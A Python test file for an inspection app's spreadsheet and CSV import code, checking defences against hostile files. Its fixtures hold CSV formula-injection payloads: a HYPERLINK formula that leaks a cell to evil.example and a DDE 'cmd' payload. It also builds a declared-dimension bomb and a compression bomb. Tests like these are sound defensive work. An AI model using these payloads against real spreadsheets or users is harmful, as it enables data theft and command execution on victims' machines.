"""Imported files against hostile input: formulae, the workbook "dimension bomb", rows far
below the limit, broken XML, zip bombs, huge CSV cells, control characters in names."""

from __future__ import annotations

import io
import re
import time
import tracemalloc
import zipfile

import pytest
import sqlalchemy as sa
from openpyxl import Workbook

from inspections import spreadsheets
from inspections.imports.models import ImportKind, ImportStatus
from inspections.imports.services import check_file
from inspections.spreadsheets import UnreadableFile
from inspections.units.models import Unit
from inspections.units.transfer import export_units
from tests.imports.helpers import MB, csv_data, row, write, xlsx_data
from tests.imports.test_import_jobs import run_upload

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")'
UNITS = ImportKind.UNITS


def _count(db) -> int:
    return db.session.scalar(sa.select(sa.func.count()).select_from(Unit))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_with_formula_like_names_imports_back_unchanged(db, make, fmt, in_request, tmp_path):
    make.unit(code="q-evil", name=HYPERLINK, name_en="+cmd|' /C calc'!A0")
    make.unit(code="-dash", name="@SUM(1+1)", name_en="-5 phường")
    make.unit(code="q-plain", name="Quận Hà Đông", name_en="'=already quoted")
    db.session.flush()
    checked = check_file(write(tmp_path, export_units(sa.select(Unit), fmt), fmt), fmt, UNITS)
    assert checked.ok and checked.counts["unchanged"] == 3, checked.errors


def _with_sheet_xml(data: bytes, change) -> bytes:
    """The workbook with its first sheet's XML passed through `change`."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = change(content.decode()).encode()
            target.writestr(item.filename, content)
    return out.getvalue()


def _small_workbook() -> bytes:
    book = Workbook()
    book.active.append(["code", "name", "kind"])
    book.active.append(["q-x", "Quận X", "district"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _declaring(ref: str) -> bytes:
    return _with_sheet_xml(
        _small_workbook(), lambda xml: re.sub(r'<dimension ref="[^"]*"/>', f'<dimension ref="{ref}"/>', xml)
    )


def _cells_converted(monkeypatch) -> list[int]:
    """How many cells the reader converts; past 100,000 it stops the test (a bomb would go on)."""
    seen = [0]
    convert = spreadsheets.cell_text

    def counting(value):
        seen[0] += 1
        assert seen[0] < 100_000, "the reader pads the sheet out to its declared size"
        return convert(value)

    monkeypatch.setattr(spreadsheets, "cell_text", counting)
    return seen


def test_a_declared_dimension_costs_nothing_beyond_the_real_cells(db, monkeypatch, in_request, tmp_path):
    bomb = _declaring("A1:XFD1048576")
    assert len(bomb) < 10_000  # a small file claiming 17 billion cells
    seen = _cells_converted(monkeypatch)
    tracemalloc.start()
    started = time.monotonic()
    checked = check_file(write(tmp_path, bomb, "xlsx"), "xlsx", UNITS)
    elapsed = time.monotonic() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert checked.ok and checked.rows == 1
    assert seen[0] <= 2 * spreadsheets.MAX_READ_COLUMNS  # two rows, the columns capped
    assert elapsed < 2 and peak < 20 * MB


@pytest.mark.parametrize("number", ["1048576", "999999999"])
def test_a_row_far_below_the_limit_is_refused_without_reading_up_to_it(
    db, monkeypatch, number, in_request, tmp_path
):
    far = _with_sheet_xml(
        _declaring("A1:XFD1048576"),
        lambda xml: xml.replace(
            "</sheetData>",
            f'<row r="{number}"><c r="A{number}" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
        ),
    )
    _cells_converted(monkeypatch)
    started = time.monotonic()
    with pytest.raises(UnreadableFile) as refused:
        check_file(write(tmp_path, far, "xlsx"), "xlsx", UNITS)
    assert "200000" in str(refused.value) and time.monotonic() - started < 10


@pytest.mark.parametrize(
    "change",
    [
        lambda xml: xml[: len(xml) // 2],  # cut in the middle
        lambda xml: xml.replace("<sheetData>", "<sheetData><row r='1'><c r='!!'><v>1</v></c></row>"),
        lambda xml: xml.replace("</sheetData>", "<row r='x'/></sheetData>"),
        lambda xml: re.sub(r'<c r="A2"[^>]*>.*?</c>', '<c r="A2" t="s"><v>99</v></c>', xml),  # no string 99
    ],
    ids=["truncated", "bad-reference", "bad-row-number", "missing-shared-strings"],
)
def test_malformed_sheet_xml_fails_the_job_with_a_translated_message(db, make, client, login, change):
    data = _with_sheet_xml(xlsx_data([row("q-x", "Quận X")]), change)
    job = run_upload(db, make, client, login, data, "units.xlsx")
    assert job.status == ImportStatus.FAILED
    page = client.get(f"/imports/{job.id}").get_data(as_text=True)
    assert 'role="alert"' in page and "Tệp không phải là bảng tính Excel (.xlsx) hợp lệ." in page
    assert _count(db) == 0


def test_a_workbook_that_unpacks_to_too_much_is_refused_before_it_is_parsed(
    db, monkeypatch, in_request, tmp_path
):
    monkeypatch.setattr(spreadsheets, "MAX_UNPACKED_BYTES", MB)
    padded = _with_sheet_xml(
        _small_workbook(), lambda xml: xml.replace("<sheetData>", " " * 2 * MB + "<sheetData>")
    )
    assert len(padded) < 50_000  # spaces compress to almost nothing
    monkeypatch.setattr(spreadsheets, "load_workbook", lambda *a, **k: pytest.fail("parsed"))
    with pytest.raises(UnreadableFile) as refused:
        check_file(write(tmp_path, padded, "xlsx"), "xlsx", UNITS)
    assert "1 MB" in str(refused.value)


def test_a_csv_cell_beyond_the_csv_modules_limit_is_a_refusal(db, in_request, tmp_path):
    data = b"code,name,kind\nq-x," + b"x" * 200_000 + b",district\n"
    with pytest.raises(UnreadableFile):
        check_file(write(tmp_path, data, "csv"), "csv", UNITS)


@pytest.mark.parametrize("fmt,build", [("csv", csv_data), ("xlsx", xlsx_data)])
def test_an_import_row_with_control_characters_gets_a_row_error(db, fmt, build, in_request, tmp_path):
    rows = [
        row("q-a", "Quận\nA"),
        row("q-b", "Quận B", email="b@hanoi.example", contact_name="Văn thư\u2028B"),
    ]
    checked = check_file(write(tmp_path, build(rows), fmt), fmt, UNITS)
    assert {(e.row, e.column) for e in checked.errors} == {(2, "name"), (3, "contact_name")}
    assert _count(db) == 0
